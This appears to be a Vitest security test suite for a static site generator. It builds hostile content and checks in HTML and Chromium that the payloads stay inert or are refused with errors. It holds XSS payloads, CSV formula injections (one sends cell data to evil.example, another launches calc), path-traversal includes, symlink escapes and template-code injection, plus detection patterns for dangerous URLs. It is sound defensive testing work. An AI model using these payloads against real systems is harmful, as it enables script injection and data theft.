/**
 * Hostile content, built through the CLI: every payload either builds inert (no script runs,
 * no live markup: checked in the HTML and in Chromium, with and without the pages' CSP) or is
 * refused with a positioned error. `inert/` holds the payloads in sources, captions, attribute
 * lists, keyref values, front matter and site.yaml; symbolic links, huge lines and deep nesting
 * are made here, as are the content folders that must be refused.
 */
import { cp, lstat, mkdir, mkdtemp, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import type { Element, Root } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { visit } from 'unist-util-visit';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchBrowser, openPage } from '../e2e/harness.js';
import { serveStatic, type StaticServer } from '../e2e/static-server.js';
import { run, type Run } from '../cli/helpers.js';
import type { Browser } from 'playwright-core';

const inert = path.join(import.meta.dirname, 'inert');
const SECRET = 'TOP-SECRET-9f2c1e';

let tmp: string;
let outDir: string;
let built: Run;

/** A copy of the inert content plus what cannot be committed: links, a huge line, deep nesting. */
async function hostileContent(): Promise<string> {
  const content = path.join(tmp, 'content');
  await cp(inert, content, { recursive: true });
  // Links that stay inside the folder keep working.
  await mkdir(path.join(content, 'shared'));
  await writeFile(path.join(content, 'shared', 'segment.md'), 'Segment text from inside the folder.\n');
  await mkdir(path.join(content, '_include-segments'));
  await symlink('../shared/segment.md', path.join(content, '_include-segments', 'linked.md'));
  const huge = 'x'.repeat(400_000);
  const nestedHtml = '<ul><li>'.repeat(300) + 'deep' + '</li></ul>'.repeat(300);
  const nestedList = Array.from({ length: 400 }, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n');
  await writeFile(
    path.join(content, 'shared', 'big.md'),
    [
      '---',
      'lastupdated: "2026-01-01"',
      '---',
      '',
      '# Big page',
      '{: #shared-responsibilities}',
      '',
      `Intro ${huge} {{site.data.content.linked}}`,
      '{: shortdesc}',
      '',
      nestedList,
      '',
      '## Security and compliance',
      '{: #security-compliance}',
      '',
      '| Task | IBM responsibilities | Your responsibilities |',
      '| --- | --- | --- |',
      `| Huge | ${huge} | ${'<b>a</b>'.repeat(5_000)} |`,
      `| Nested | ${nestedHtml} | {{site.data.content.linked}} |`,
      '',
    ].join('\n'),
  );
  await symlink('../shared/big.md', path.join(content, 'sources', 'big.md'));
  return content;
}

beforeAll(async () => {
  tmp = await mkdtemp(path.join(os.tmpdir(), 'respmatrix-hostile-'));
  const content = await hostileContent();
  outDir = path.join(tmp, 'dist');
  built = await run(['build', '--content', content, '--out', outDir, '--quiet'], tmp, { RESPMATRIX_CACHE: '0' });
}, 120_000);
afterAll(async () => {
  await rm(tmp, { recursive: true, force: true });
});

async function htmlFiles(dir: string): Promise<string[]> {
  return (await readdir(dir, { recursive: true })).filter((f) => f.endsWith('.html')).map((f) => f.split(path.sep).join('/')).sort();
}

const URL_PROPERTIES = ['href', 'src', 'action', 'formAction', 'poster', 'data', 'srcSet', 'xLinkHref', 'background', 'cite'];
const DANGEROUS_URL = /^\s*(javascript|data|vbscript):/i;
const FORBIDDEN_TAGS = new Set(['iframe', 'object', 'embed', 'base', 'style', 'form', 'frame', 'frameset', 'applet', 'math']);

/** Live markup in a built page: anything that could run code or change the page's behaviour. */
function liveMarkup(tree: Root, file: string): string[] {
  const found: string[] = [];
  visit(tree, 'element', (el: Element) => {
    const props = el.properties;
    if (el.tagName === 'script') {
      const src = String(props.src ?? '');
      if (!/^\/(assets\/[\w-]+\.js|redirect\.js)$/.test(src)) found.push(`${file}: <script src="${src}">`);
    }
    // The site's own forms: the header search (GET to /search/) and the compare controls (no action).
    const ownForm = el.tagName === 'form' && (props.action === undefined || props.action === '/search/');
    if (FORBIDDEN_TAGS.has(el.tagName) && !ownForm) found.push(`${file}: <${el.tagName}>`);
    if (el.tagName === 'meta' && String(props.httpEquiv ?? '').toLowerCase() === 'refresh') found.push(`${file}: meta refresh`);
    for (const [name, value] of Object.entries(props)) {
      if (/^on/i.test(name)) found.push(`${file}: <${el.tagName} ${name}>`);
      if (name === 'style') found.push(`${file}: <${el.tagName} style>`);
      if (URL_PROPERTIES.includes(name) && DANGEROUS_URL.test(String(value))) found.push(`${file}: <${el.tagName} ${name}="${String(value)}">`);
    }
  });
  return found;
}

describe('hostile content that builds', () => {
  test('builds (exit 0) and says what it neutralised, each at its place', () => {
    expect(built.stderr).not.toMatch(/internal error/);
    expect(built.code).toBe(0);
    const warnings = built.stderr.split('\n').filter((line) => / warning /.test(line));
    // Every warning points at file:line:column with a rule id.
    for (const line of warnings) expect(line).toMatch(/^content\/(site\.yaml|keywords\.yaml|sources\/[\w.-]+):\d+:\d+ +warning .+ [a-z]+(-[a-z]+)*$/);
    expect(built.stderr).toMatch(/content\/sources\/hostile\.md:18:9 +warning +HTML <script> is not allowed here; shown as text +raw-html/);
    expect(built.stderr).toMatch(/content\/sources\/hostile\.md:22:20 +warning +Unsafe link URL "javascript:window\.__pwned='cell-link'" dropped +unsafe-url/);
    expect(built.stderr).toMatch(/content\/sources\/hostile\.yaml:11:20 +warning +Unsafe link URL "javascript:window\.__pwned='yaml-provider'" dropped +unsafe-url/);
  });

  test('no page holds a script, handler, style, frame, form, base or javascript:/data: URL from content', async () => {
    const files = await htmlFiles(outDir);
    expect(files).toEqual(expect.arrayContaining(['offerings/hostile-md/index.html', 'offerings/hostile-yaml/index.html', 'offerings/big/index.html', 'checklist/hostile-md/index.html', 'search/index.html']));
    const found: string[] = [];
    for (const file of files) {
      const html = await readFile(path.join(outDir, file), 'utf8');
      found.push(...liveMarkup(fromHtml(html), file));
    }
    expect(found).toEqual([]);
  });

  test('the payloads are shown as text, not dropped silently', async () => {
    const page = await readFile(path.join(outDir, 'offerings/hostile-md/index.html'), 'utf8');
    expect(page).toContain('Monitoring &lt;script&gt;window.__pwned=&#39;cell-script&#39;&lt;/script&gt;');
    expect(page).toContain('<td data-label="IBM responsibilities">&#x3C;img src=x onerror="window.__pwned=\'cell-img\'"> watch</td>');
    expect(page).toContain('<caption>Caption &lt;script&gt;window.__pwned=&#39;caption-script&#39;&lt;/script&gt;');
    // A keyref value is text: an include written in one is shown, never resolved.
    expect(page).toContain('{{../../../../etc/hostname.md}}');
  });

  test('links inside the content folder work; huge lines and deep nesting build in full', async () => {
    const big = await readFile(path.join(outDir, 'offerings/big/index.html'), 'utf8');
    expect(big).toContain('x'.repeat(400_000));
    expect(big).toContain('deep');
    expect(big).toContain('Segment text from inside the folder.');
  });

  test('CSVs defuse formulas while model.json keeps the text exactly', async () => {
    const csv = await readFile(path.join(outDir, 'responsibilities.csv'), 'utf8');
    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",`);
    expect(csv).toContain(`,'@SUM(1+1)*cmd,`);
    expect(csv).toContain(`,'+1+1,'-2+3,`);
    // No field of any published CSV starts a formula.
    for (const file of (await readdir(outDir, { recursive: true })).filter((f) => f.endsWith('.csv'))) {
      const text = await readFile(path.join(outDir, file), 'utf8');
      const fields = text.split(/,|\r\n/).map((f) => f.replace(/^"/, ''));
      expect(fields.filter((f) => /^[=+\-@\t\r]/.test(f)), file).toEqual([]);
    }
    const model = await readFile(path.join(outDir, 'model.json'), 'utf8');
    expect(model).toContain(JSON.stringify('=cmd|\' /C calc\'!A0'));
    expect(model).toContain(JSON.stringify('+1+1'));
  });
});

describe('hostile content in Chromium', () => {
  let browser: Browser;
  let server: StaticServer;
  let bare: StaticServer;
  let files: string[];

  beforeAll(async () => {
    files = await htmlFiles(outDir);
    // A copy without the CSP meta: the payloads must be inert through escaping alone.
    const unprotected = path.join(tmp, 'unprotected');
    await cp(outDir, unprotected, { recursive: true });
    for (const file of files) {
      const html = await readFile(path.join(unprotected, file), 'utf8');
      await writeFile(path.join(unprotected, file), html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>\n/, ''));
    }
    [server, bare, browser] = await Promise.all([serveStatic(outDir, '/', { cspHeader: false }), serveStatic(unprotected, '/', { cspHeader: false }), launchBrowser()]);
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await bare?.close();
  });

  /** In the page, after its scripts ran: did a payload run, and is there live markup from content? */
  const pageState = `(() => {
    const live = [];
    for (const el of document.querySelectorAll('*')) {
      // The site's own script keeps the header height in one custom property on the root.
      const ownStyle = el === document.documentElement && /^--header-now: \\d+px;$/.test(el.getAttribute('style') || '');
      for (const attr of el.getAttributeNames()) if (/^on/i.test(attr) || (attr === 'style' && !ownStyle)) live.push(el.tagName + ' ' + attr);
      if (el.tagName === 'SCRIPT' && !/\\/(assets\\/[\\w-]+\\.js|redirect\\.js)$/.test(el.src)) live.push('script ' + el.src);
      if (/^(IFRAME|OBJECT|EMBED|BASE|STYLE)$/.test(el.tagName)) live.push(el.tagName);
      for (const name of ['href', 'src', 'action']) if (/^\\s*(javascript|data|vbscript):/i.test(el.getAttribute(name) || '')) live.push(el.tagName + ' ' + name);
    }
    return { pwned: window.__pwned ?? null, live };
  })()`;

  test('every page, with and without its CSP: no payload runs, no live markup, no CSP violation', async () => {
    const report: Record<string, unknown> = {};
    for (const [name, origin] of [['csp', server.origin], ['no-csp', bare.origin]] as const) {
      const tab = await openPage(browser, `${origin}/`);
      for (const file of files) {
        await tab.goto(`${origin}/${file.replace(/(^|\/)index\.html$/, '$1')}`);
        await tab.page.waitForLoadState('networkidle');
        // Hover and click everything a payload could have hooked.
        await tab.page.evaluate(`for (const el of document.querySelectorAll('main *')) { el.dispatchEvent(new MouseEvent('mouseover', { bubbles: true })); }`);
        const state = (await tab.page.evaluate(pageState)) as { pwned: string | null; live: string[] };
        const problems = tab.problems().filter((p) => !p.startsWith('http 404') && !/favicon|\/x$/.test(p));
        if (state.pwned !== null || state.live.length > 0 || problems.length > 0) report[`${name} ${file}`] = { ...state, problems };
      }
      await tab.context.close();
    }
    expect(report).toEqual({});
  }, 240_000);

  test('search results, compare and checklist render hostile rows as text', async () => {
    const tab = await openPage(browser, `${bare.origin}/search/?q=pwned`);
    await tab.page.waitForLoadState('networkidle');
    expect(await tab.page.evaluate(pageState)).toEqual({ pwned: null, live: [] });
    // /search/ has its own field only; the header's type-ahead box is on every other page.
    await tab.goto(`${bare.origin}/`);
    const box = tab.page.locator('form[data-search-box] input[name="q"]');
    await box.focus();
    await box.pressSequentially('script');
    await tab.page.locator('form[data-search-box] [role="option"]').first().waitFor();
    expect(await tab.page.locator('form[data-search-box] [role="option"]').count()).toBeGreaterThan(0);
    expect(await tab.page.evaluate(pageState)).toEqual({ pwned: null, live: [] });
    await tab.goto(`${bare.origin}/compare/?offerings=hostile-md,hostile-yaml&party=customer&diff=1`);
    expect(await tab.page.evaluate(pageState)).toEqual({ pwned: null, live: [] });
    await tab.goto(`${bare.origin}/checklist/hostile-md/`);
    await tab.page.locator('.checklist-item > input').first().check();
    expect(await tab.page.evaluate(pageState)).toEqual({ pwned: null, live: [] });
    await tab.context.close();
  }, 60_000);
});

/** A content folder from `files` (paths relative to it) plus links, built through the CLI. */
async function buildRefused(
  name: string,
  files: Record<string, string>,
  links: Record<string, string> = {},
): Promise<{ result: Run; out: string; root: string }> {
  const root = path.join(tmp, 'refused', name);
  const content = path.join(root, 'content');
  await mkdir(content, { recursive: true });
  if (!('sources' in links)) await mkdir(path.join(content, 'sources'));
  await writeFile(path.join(root, 'secret.md'), `# ${SECRET}\n\n## Disaster recovery\n\n| Task | IBM | You |\n| - | - | - |\n| ${SECRET} | a | b |\n`);
  await writeFile(path.join(root, 'secret.yaml'), `title: ${SECRET}\n`);
  for (const [file, text] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(content, file)), { recursive: true });
    await writeFile(path.join(content, file), text);
  }
  for (const [link, target] of Object.entries(links)) {
    await mkdir(path.dirname(path.join(content, link)), { recursive: true });
    await symlink(target, path.join(content, link));
  }
  const out = path.join(root, 'dist');
  const result = await run(['build', '--content', 'content', '--out', 'dist'], root, { RESPMATRIX_CACHE: '0' });
  return { result, out, root };
}

const SITE = 'title: Refused\nlinkBase: https://cloud.ibm.com\n';
const PAGE = (extra = '') =>
  `# Page\n{: #shared-responsibilities}\n\n## Disaster recovery\n{: #disaster-recovery}\n\n| Task | IBM | You |\n| - | - | - |\n| Backups | a | b |\n\n${extra}\n`;

describe('hostile content that is refused with a positioned error', () => {
  const cases: [string, Record<string, string>, Record<string, string>, RegExp][] = [
    ['source link out', { 'site.yaml': SITE, 'sources/ok.md': PAGE() }, { 'sources/leak.md': '../../secret.md' },
      /^content\/sources\/leak\.md:1:1 +error +"sources\/leak\.md" is a symbolic link to .*\/secret\.md, outside the content folder: not read +unsafe-path$/m],
    ['sources folder link out', { 'site.yaml': SITE }, { sources: '..' },
      /^content\/sources:1:1 +error +Folder "sources" is a symbolic link to .*\/refused\/sources folder link out, outside the content folder: not read +unsafe-path$/m],
    ['keywords link out', { 'site.yaml': SITE, 'sources/ok.md': PAGE() }, { 'keywords.yaml': '../secret.yaml' },
      /^content\/keywords\.yaml:1:1 +error +"keywords\.yaml" is a symbolic link to .*\/secret\.yaml, outside the content folder: not read +unsafe-path$/m],
    ['site.yaml link out', { 'sources/ok.md': PAGE() }, { 'site.yaml': '../secret.yaml' },
      /^content\/site\.yaml:1:1 +error +"site\.yaml" is a symbolic link to .*\/secret\.yaml, outside the content folder: not read +unsafe-path$/m],
    ['include climbing out', { 'site.yaml': SITE, 'sources/ok.md': PAGE('Text {{../../secret.md}}') }, {},
      /^content\/sources\/ok\.md:11:6 +error +Include "\.\.\/\.\.\/secret\.md" leads to .*\/secret\.md, outside the content folder: not read +unsafe-path$/m],
    ['include through a link out', { 'site.yaml': SITE, 'sources/ok.md': PAGE('{{site.data.content.leak}}') }, { '_include-segments/leak.md': '../../secret.md' },
      /^content\/sources\/ok\.md:11:1 +error +Include "site\.data\.content\.leak": "_include-segments\/leak\.md" is a symbolic link to .*\/secret\.md, outside the content folder: not read +unsafe-path$/m],
    ['offering source out', { 'site.yaml': `${SITE}offerings:\n  - id: leak\n    name: Leak\n    source: ../../secret.md\n`, 'sources/ok.md': PAGE() }, {},
      /^content\/site\.yaml:6:13 +error +Offering "leak" names source "\.\.\/\.\.\/secret\.md", a path out of sources\/: name a file in sources\/ +unsafe-path$/m],
    ['redirect climbing out of the output', { 'site.yaml': `${SITE}redirects:\n  - { from: "/../../../escaped/", to: "/" }\n`, 'sources/ok.md': PAGE() }, {},
      /^content\/site\.yaml:4:14 +error +Redirect from "\/\.\.\/\.\.\/\.\.\/escaped\/" climbs out of the site .* +unsafe-path$/m],
    ['template code', { 'site.yaml': SITE, 'sources/ok.md': PAGE('{{ constructor.constructor("window.__pwned=1")() }}') }, {},
      /^content\/sources\/ok\.md:11:1 +error +Unknown template reference .* +unknown-keyref$/m],
  ];

  test.each(cases)('%s: exit 1, error at its place, nothing written, nothing of the target shown', async (name, files, links, expected) => {
    const { result, out, root } = await buildRefused(name, files, links);
    expect(result.stderr).toMatch(expected);
    expect(result.code).toBe(1);
    expect(result.stderr + result.stdout).not.toContain(SECRET);
    expect(await lstat(out).catch(() => undefined)).toBeUndefined();
    // Nothing was written anywhere else either.
    expect((await readdir(root)).sort()).toEqual(['content', 'secret.md', 'secret.yaml']);
    for (const dir of [tmp, path.join(tmp, 'refused')]) expect(await lstat(path.join(dir, 'escaped')).catch(() => undefined)).toBeUndefined();
  });
});
